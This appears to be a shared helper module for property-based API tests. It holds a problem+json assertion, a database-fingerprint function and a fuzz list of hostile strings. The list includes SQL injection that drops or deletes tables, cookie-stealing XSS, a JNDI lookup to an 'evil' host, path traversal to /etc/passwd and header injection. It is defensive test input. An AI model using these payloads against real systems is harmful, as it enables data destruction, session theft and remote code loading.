// Shared helpers for the proof tests (not a test file itself).
import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import type { Queryable } from '../../src/db';

/** Asserts an error answer is application/problem+json with a stable code and the HTTP status. */
export function assertProblem(res: { statusCode: number; headers: Record<string, unknown>; body: string }, what: string): { code: string; status: number; detail?: any; errors?: any; [k: string]: any } {
  assert.match(String(res.headers['content-type'] ?? ''), /^application\/problem\+json/, `${what}: ${res.statusCode} without problem+json (${res.headers['content-type']}): ${res.body.slice(0, 300)}`);
  let body: { code?: unknown; status?: unknown };
  try {
    body = JSON.parse(res.body);
  } catch {
    assert.fail(`${what}: problem body is not JSON: ${res.body.slice(0, 300)}`);
  }
  assert.equal(typeof body.code, 'string', `${what}: no code in ${res.body.slice(0, 300)}`);
  assert.equal(body.status, res.statusCode, `${what}: status field ${body.status} ≠ HTTP ${res.statusCode}`);
  return body as { code: string; status: number };
}

export function json(res: LightMyRequestResponse) {
  return JSON.parse(res.body);
}

/**
 * A fingerprint of the whole database for "nothing changed" checks: row count of every table, plus
 * sum(version) / max(updated_at) where a table has them. `exclude` lists tables whose writes on failure
 * are intended (login_throttle: failed sign-ins are counted).
 */
export async function fingerprinter(db: Queryable, exclude: string[] = ['login_throttle']): Promise<() => Promise<string>> {
  const { rows } = await db.query<{ table_name: string; cols: string[] }>(
    `select c.table_name, array_agg(c.column_name::text) as cols from information_schema.columns c
     join information_schema.tables t on t.table_schema = c.table_schema and t.table_name = c.table_name
     where c.table_schema = 'public' and t.table_type = 'BASE TABLE' group by c.table_name order by c.table_name`,
  );
  const parts: string[] = [];
  for (const r of rows) {
    if (exclude.includes(r.table_name)) continue;
    const cols = r.cols;
    const t = `"${r.table_name}"`;
    parts.push(`(select count(*) from ${t})::text`);
    if (cols.includes('version')) parts.push(`coalesce((select sum(version) from ${t}), 0)::text`);
    if (cols.includes('updated_at')) parts.push(`coalesce((select max(updated_at) from ${t})::text, '-')`);
  }
  const sql = `select concat_ws('|', ${parts.join(', ')}) as f`;
  return async () => (await db.query<{ f: string }>(sql)).rows[0].f;
}

/** Hostile text: injection, script, control characters, odd Unicode, traversal, template syntax. */
export const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "1; drop table orders; --",
  "'); delete from users; --",
  '" or ""="',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '#{7*7}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '\u202e\u0644\u0627',
  '\ufeff',
  '💩🀄️👨‍👩‍👧',
  '\r\nSet-Cookie: x=1',
  '\\',
  '%',
  '_',
  '%_%\\',
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
  '-1',
  '0',
  '1e309',
  '99999999999999999999999',
  '2147483648',
  '-2147483649',
  '0x10',
  '1.5',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  '2025-02-30',
  '2025-13-01T25:61:61Z',
  '9999-12-31T23:59:59Z',
  '0000-01-01',
  '138****1234',
  '鼓楼区\u0000东街',
];

/** Hostile or odd text for a body field: the hostile strings, short random strings, empty, and over-long. */
export const hostileText = fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 40 }), fc.constant(''), fc.constant('x'.repeat(6000)));

/** Instants for a date-time field: impossible and far ones, `odd` extra constants, any ISO instant, or hostile text. */
export const hostileInstant = (odd: string[]) => fc.oneof(
  fc.constantFrom('2026-02-30T10:00:00+08:00', '9999-12-31T23:59:59Z', '0000-01-01T00:00:00Z', '2026-03-02', 'now', '', '2026-03-02T25:00:00Z', ...odd),
  fc.date({ min: new Date('1970-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }).map((d) => d.toISOString()),
  hostileText,
);
